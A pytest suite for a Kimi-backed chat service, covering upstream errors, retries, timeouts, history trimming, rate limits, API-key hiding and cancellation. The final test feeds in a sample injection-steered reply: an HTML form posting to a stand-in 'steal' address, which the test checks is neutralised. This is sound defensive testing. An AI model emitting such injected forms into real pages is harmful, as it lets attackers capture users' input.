"""Upstream faults, bad input and limits, through ChatService against the local Kimi server.

Every case goes over real HTTP to tests/kimi_server.py; nothing in the SDK is faked.
"""

from __future__ import annotations

import asyncio
import json
import logging
import re

import pytest
from conftest import KEY, answer_of, eventually, make_service, notes_of, run
from kimi_server import free_port

from kimichat.guard import Visitor
from kimichat.reply import Update
from kimichat.tags import reply_tags

# -- upstream faults before the first token -------------------------------------------------


async def test_overloaded_engine_is_retried_then_answers(service, upstream):
    upstream.fail_next = ["[[status:429:engine_overloaded_error]]"]
    updates = await run(service, "hi")
    assert answer_of(updates[-1].messages).startswith("Echo: hi")
    assert len(upstream.calls) == 2
    assert any("trying again" in notes_of(u.messages) for u in updates)  # the visitor saw why it waits


async def test_always_busy_gives_up_with_a_plain_sentence(service, upstream):
    updates = await run(service, "hi [[status:429]]", lang="zh")
    assert len(upstream.calls) == 1 + service.settings.max_retries
    final = updates[-1].messages
    assert notes_of(final).startswith("Kimi 现在很忙") and answer_of(final) == ""


async def test_rate_limit_reached_waits_as_told(service, upstream):
    upstream.fail_next = ["[[status:429:rate_limit_reached_error]]"]
    loop = asyncio.get_running_loop()
    start = loop.time()
    updates = await run(service, "hi")
    assert loop.time() - start >= 0.9  # "please try again after 1 seconds"
    assert answer_of(updates[-1].messages).startswith("Echo: hi")


@pytest.mark.parametrize("fault", ["[[status:429:exceeded_current_quota_error]]", "[[status:403]]"])
async def test_out_of_balance_is_not_retried_and_tells_the_owner(service, upstream, fault):
    updates = await run(service, f"hi {fault}")
    assert len(upstream.calls) == 1
    assert "out of balance" in notes_of(updates[-1].messages)


async def test_server_errors_are_retried(service, upstream):
    upstream.fail_next = ["[[status:500]]", "[[status:500]]"]
    updates = await run(service, "hi")
    assert answer_of(updates[-1].messages).startswith("Echo: hi") and len(upstream.calls) == 3


async def test_unreachable_upstream_is_a_plain_sentence():
    service = make_service(f"http://127.0.0.1:{free_port()}/v1", max_retries=1)
    updates = await run(service, "hi")
    assert "busy" in notes_of(updates[-1].messages)


async def test_rejected_key_names_the_secret_and_shows_no_key(upstream):
    service = make_service(upstream.base_url, api_key="sk-test-revoked", space_id="me/space")
    text = notes_of((await run(service, "hi"))[-1].messages)
    assert "MOONSHOT_API_KEY" in text and "https://huggingface.co/spaces/me/space/settings" in text
    assert "sk-test-revoked" not in text and len(upstream.calls) == 1


async def test_content_filter_error_is_explained(service, upstream):
    updates = await run(service, "hi [[status:400:content_filter]]")
    assert "high-risk" in notes_of(updates[-1].messages) and len(upstream.calls) == 1


# -- faults after text has streamed ------------------------------------------------------


@pytest.mark.parametrize(("fault", "told"), [("[[drop:4]]", "cut off"), ("[[malformed]]", "could not be read")])
async def test_partial_reply_is_kept_with_a_note_and_never_retried(service, upstream, fault, told):
    updates = await run(service, f"abcd {fault}")
    final = updates[-1].messages
    assert answer_of(final).startswith("Echo: ") and told in notes_of(final)
    assert len(upstream.calls) == 1


async def test_empty_choices_are_harmless(service, upstream):
    final = (await run(service, "x [[empty]]"))[-1].messages
    assert answer_of(final).endswith(" t7") and notes_of(final) == ""


@pytest.mark.parametrize(("fault", "says"), [("[[length]]", "length limit"), ("[[filter]]", "filtered")])
async def test_unusual_finish_reasons_get_a_note(service, upstream, fault, says):
    final = (await run(service, f"x {fault}"))[-1].messages
    assert says in notes_of(final) and answer_of(final)


async def test_first_token_timeout_does_not_hang(upstream):
    service = make_service(upstream.base_url, first_token_timeout=1.0, idle_timeout=30.0, max_retries=0)
    updates = await asyncio.wait_for(run(service, "x [[first:20]]"), 10)
    assert "too long" in notes_of(updates[-1].messages)
    assert await eventually(lambda: upstream.calls[-1].disconnected)


async def test_idle_timeout_between_chunks_keeps_the_partial(upstream):
    service = make_service(upstream.base_url, first_token_timeout=30.0, idle_timeout=1.0, max_retries=0)
    updates = await asyncio.wait_for(run(service, "x [[delay:5]]"), 15)
    final = updates[-1].messages
    assert answer_of(final).startswith("Echo") and "stopped part-way: Kimi took too long" in notes_of(final)


async def test_a_silent_stream_is_a_timeout(upstream, caplog):
    service = make_service(upstream.base_url, first_token_timeout=30.0, idle_timeout=1.0, max_retries=0)
    with caplog.at_level(logging.WARNING, logger="kimichat"):
        updates = await asyncio.wait_for(run(service, "x [[hang]]"), 15)
    assert "too long" in notes_of(updates[-1].messages)
    assert "kind=timeout" in caplog.text


async def test_a_connection_broken_before_the_first_token_is_tried_again(service, upstream, caplog):
    upstream.fail_next = ["[[reset:0]]"]
    with caplog.at_level(logging.WARNING, logger="kimichat"):
        updates = await run(service, "hi")
    assert answer_of(updates[-1].messages).startswith("Echo: hi") and len(upstream.calls) == 2
    assert "kind=connection" in caplog.text


async def test_a_connection_broken_mid_reply_keeps_the_partial(service, upstream, caplog):
    with caplog.at_level(logging.WARNING, logger="kimichat"):
        updates = await run(service, "abcd [[reset:4]]")
    final = updates[-1].messages
    assert answer_of(final).startswith("Echo: ") and "cut off" in notes_of(final)
    assert len(upstream.calls) == 1 and "kind=connection" in caplog.text


@pytest.mark.parametrize(
    ("kind", "told"),
    [
        ("server_error", "The reply stopped part-way: Kimi is busy right now."),
        ("invalid_request_error", "The reply stopped part-way: Kimi could not answer this time (bad_request)."),
        ("content_filter", "Kimi stopped here: the rest was filtered as high-risk content."),
    ],
)
async def test_an_error_after_streaming_began_says_what_happened(service, upstream, caplog, kind, told):
    """Moonshot reports a failure inside a begun stream as an error event: the visitor reads what it
    was (not "the connection broke"), in the app's words, and keeps what arrived; nothing is retried."""
    updates = await run(service, f"abcdefgh [[midstream:{kind}]]")
    final = updates[-1].messages
    assert answer_of(final).startswith("Echo: abcd") and notes_of(final).startswith(told)
    assert "connection" not in notes_of(final) and "SECRET-UPSTREAM-TEXT" not in notes_of(final) + caplog.text
    assert len(upstream.calls) == 1 and f"detail={kind}" in caplog.text


async def test_failures_are_logged_on_one_line_without_content(service, upstream, caplog):
    with caplog.at_level(logging.WARNING, logger="kimichat"):
        await run(service, "private words [[status:429:exceeded_current_quota_error]]", persona="translator")
    lines = [r.getMessage() for r in caplog.records if r.name == "kimichat.failures"]
    assert lines == [
        "reply failed kind=no_balance persona=translator model=kimi-k2.6 status=429 detail=exceeded_current_quota_error"
    ]
    assert "private words" not in caplog.text and KEY not in caplog.text


# -- context and input ----------------------------------------------------------------------


def long_history(turns: int, size: int, persona: str = "assistant") -> list[dict]:
    history = []
    for i in range(turns):
        history += [
            {"role": "user", "content": f"question {i} " + "q" * size},
            {"role": "assistant", "content": f"answer {i} " + "a" * size, "metadata": reply_tags(persona)},
        ]
    return history


async def test_history_is_trimmed_oldest_first_to_fit_the_context(service, upstream):
    await run(service, "newest", long_history(12, 1500), model="moonshot-v1-8k")
    messages = upstream.calls[-1].body["messages"]
    assert messages[0]["role"] == "system" and messages[-1] == {"role": "user", "content": "newest"}
    assert messages[1]["role"] == "user"
    kept = [int(m["content"].split()[1]) for m in messages[1:-1] if m["role"] == "user"]
    assert kept and kept == list(range(12 - len(kept), 12))  # the newest turns, in order
    assert upstream.calls[-1].completed


async def test_every_request_is_bounded_whatever_history_the_page_sends(upstream):
    """The page writes the history it sends: a 300,000-character old turn is dropped to fit
    MAX_REQUEST_TOKENS, and one the new message merges with (an unanswered question) is refused
    before anything is sent."""
    service = make_service(upstream.base_url, max_request_tokens=2000)
    huge = "x" * 300_000
    answered = [
        {"role": "user", "content": huge},
        {"role": "assistant", "content": "ok", "metadata": reply_tags("assistant")},
    ]
    updates = await run(service, "hi", history=answered)
    assert answer_of(updates[-1].messages).startswith("Echo: hi")
    assert len(json.dumps(upstream.calls[-1].body)) < 10_000  # the old turn went, not the message
    calls = len(upstream.calls)
    updates = await run(service, "hi", history=[{"role": "user", "content": huge}])  # merges into one turn
    assert len(upstream.calls) == calls
    assert "too long to send" in notes_of(updates[-1].messages)


async def test_context_refusal_trims_harder_and_retries_once(service, upstream):
    # fits the app's estimate but not the (stricter) server count: Kimi says 400, the app trims again
    await run(service, "newest", long_history(6, 2200), model="moonshot-v1-8k")
    assert len(upstream.calls) == 2 and not upstream.calls[0].completed and upstream.calls[1].completed
    assert len(upstream.calls[1].body["messages"]) < len(upstream.calls[0].body["messages"])


async def test_message_length_and_turn_limits(upstream):
    service = make_service(upstream.base_url, max_message_chars=50, max_turns=2)
    too_long = (await run(service, "x" * 51))[-1].messages
    assert "51 characters" in notes_of(too_long) and "50" in notes_of(too_long)
    turns = (await run(service, "third", long_history(2, 5)))[-1].messages
    assert "2 messages" in notes_of(turns)
    assert upstream.calls == []


async def test_refused_messages_count_against_the_rate_limit(upstream):
    service = make_service(upstream.base_url, rate_limit_per_minute=3, max_message_chars=10)
    visitor = Visitor(["ip:198.51.100.9"])
    for _ in range(3):
        refused = await run(service, "x" * 50, visitor=visitor)
        assert "Please shorten it" in notes_of(refused[-1].messages)
    updates = await run(service, "hi", visitor=visitor)
    assert "faster than this Space allows" in notes_of(updates[-1].messages)
    assert not upstream.calls


@pytest.mark.parametrize("blank", ["", "   ", "\n\t "])
async def test_blank_messages_are_not_sent(service, upstream, blank):
    assert "Type a message" in notes_of((await run(service, blank))[-1].messages)
    assert upstream.calls == []


async def test_any_unicode_passes_through_intact(service, upstream):
    text = "中文 👨‍👩‍👧 مرحبا\u200b\u200d\u202e x\x01\x7f\ttab 𝔘𝔫𝔦"
    final = (await run(service, text))[-1].messages
    assert upstream.calls[-1].last_user == text
    assert "".join(text.split()) in "".join(answer_of(final).split())


# -- global cap and visitor keys ---------------------------------------------------------


async def test_upstream_cap_queues_politely(upstream):
    upstream.token_delay = 0.05
    service = make_service(upstream.base_url, upstream_concurrency=2)
    results = await asyncio.gather(*(run(service, f"user {i}") for i in range(6)))
    assert upstream.max_open_streams == 2
    assert all(answer_of(r[-1].messages).endswith(" t7") for r in results)
    assert sum(any("slot frees up" in notes_of(u.messages) for u in r) for r in results) >= 3


async def test_only_the_owners_allowed_models_are_offered_or_used(upstream):
    service = make_service(upstream.base_url, allowed_models="kimi-k2-turbo-preview, moonshot-v1-8k")
    await run(service, "pick the dear one", model="kimi-k2-thinking")  # listed, but not allowed
    await run(service, "the persona's own")  # the persona names kimi-k2.6, not allowed either
    assert {c.body["model"] for c in upstream.calls} <= {"kimi-k2-turbo-preview", "moonshot-v1-8k"}
    assert [m.id for m in await service.catalog.models()] == ["kimi-k2-turbo-preview", "moonshot-v1-8k"]


async def test_visitor_key_is_used_for_that_visitor_only(service, upstream):
    upstream.extra_keys.add("sk-test-visitor-a")
    mine, theirs = await asyncio.gather(
        run(service, "from a", visitor=Visitor(["ip:a"], "sk-test-visitor-a")),
        run(service, "from b", visitor=Visitor(["ip:b"])),
    )
    by_message = {c.last_user: c.authorization for c in upstream.calls}
    assert by_message == {"from a": "Bearer sk-test-visitor-a", "from b": f"Bearer {KEY}"}
    assert "sk-test-visitor-a" not in repr(Visitor(["ip:a"], "sk-test-visitor-a"))
    assert all("sk-test-visitor" not in str(u) for u in mine + theirs)


async def test_a_visitor_on_their_own_key_takes_none_of_the_owners_slots(upstream):
    upstream.extra_keys.add("sk-test-visitor-c")
    service = make_service(upstream.base_url, upstream_concurrency=1)
    holder, _ = await _reply_until(
        service, "owner's slot [[tokens:100]] [[delay:0.05]]", lambda _: upstream.open_streams == 1
    )
    updates = await run(service, "on my own key", visitor=Visitor(["ip:c"], "sk-test-visitor-c"))
    assert answer_of(updates[-1].messages).startswith("Echo: on my")
    assert not any("slot frees up" in notes_of(u.messages) for u in updates)  # it never waited
    assert not holder.done()  # answered while the owner's only slot was still held
    await holder


async def test_visitor_key_works_when_the_space_has_none(upstream):
    upstream.extra_keys.add("sk-test-visitor-b")
    service = make_service(upstream.base_url, api_key="")
    final = (await run(service, "mine", visitor=Visitor(["ip:b"], "sk-test-visitor-b")))[-1].messages
    assert answer_of(final).startswith("Echo: mine")


# -- the visitor stops a reply (Gradio cancels the reply's task) -------------------------------


async def _reply_until(service, message, started, persona="assistant") -> tuple[asyncio.Task, list[Update]]:
    """Run a reply in a task of its own, as Gradio runs it, until ``started(its updates so far)``."""
    updates: list[Update] = []

    async def consume() -> None:
        async for update in service.reply(message, [], persona):
            updates.append(update)

    task = asyncio.create_task(consume())
    assert await eventually(lambda: started(updates)), "the reply never got there"
    return task, updates


async def _cancel(task: asyncio.Task) -> None:
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task


async def test_a_stop_mid_reply_closes_the_upstream_and_keeps_what_came(service, upstream):
    upstream.tokens, upstream.token_delay = 200, 0.02
    task, updates = await _reply_until(service, "stop me", lambda got: got and "t5" in answer_of(got[-1].messages))
    await _cancel(task)
    assert await eventually(lambda: upstream.calls[-1].disconnected, 5)
    assert "t199" not in answer_of(updates[-1].messages)


async def test_a_stop_while_waiting_for_an_upstream_slot_sends_nothing(upstream):
    upstream.tokens, upstream.token_delay = 100, 0.02
    service = make_service(upstream.base_url, upstream_concurrency=1)
    holder, _ = await _reply_until(service, "holds the slot", lambda _: upstream.open_streams == 1)
    told_to_wait = lambda got: any("slot frees up" in notes_of(u.messages) for u in got)  # noqa: E731
    waiting, _ = await _reply_until(service, "waits", told_to_wait)
    await _cancel(waiting)
    await holder
    assert [c.last_user for c in upstream.calls] == ["holds the slot"]  # the stopped one never went


async def test_a_stop_during_the_upload_deletes_the_file_once_it_lands(service, upstream, tmp_path):
    paper = tmp_path / "paper.md"
    paper.write_text("# A long read", encoding="utf-8")
    upstream.upload_delay = 0.5  # the server has the file; its answer (the id) is on the way
    task, _ = await _reply_until(
        service, {"text": "read", "files": [str(paper)]}, lambda _: len(upstream.files) == 1, persona="researcher"
    )
    await _cancel(task)
    assert upstream.deleted == list(upstream.files) and not upstream.calls


async def test_a_stop_while_a_document_is_read_deletes_the_uploaded_file(service, upstream, tmp_path):
    paper = tmp_path / "paper.md"
    paper.write_text("# A long read", encoding="utf-8")
    upstream.extract_delay = 30
    task, _ = await _reply_until(
        service, {"text": "read", "files": [str(paper)]}, lambda _: len(upstream.files) == 1, persona="researcher"
    )
    await _cancel(task)
    assert upstream.deleted == list(upstream.files)  # the file does not stay on the owner's account
    assert not upstream.calls


async def test_a_reply_cannot_carry_a_form(service, upstream):
    """A reply steered by what Kimi read: its form tags show as text (an invisible break after "<"),
    so no click or typing in a reply can be sent anywhere; a fenced code block keeps its code as
    written, for its copy button."""
    injected = (
        '<form action="http://198.51.100.1/steal"><input name="q"><BUTTON>go</BUTTON></form> and `<form>` inline'
        "\n```html\n<form><input></form>\n```\nthe end"
    )
    answer = answer_of((await run(service, injected))[-1].messages)
    prose, code = answer.split("```html")
    assert not re.search(r"<(form|input|button)", prose, re.I)
    assert '<\u200bform action="http://198.51.100.1/steal"><\u200binput' in prose  # shows the same
    assert "`<\u200bform>` inline" in prose
    assert "\n<form><input></form>\n" in code
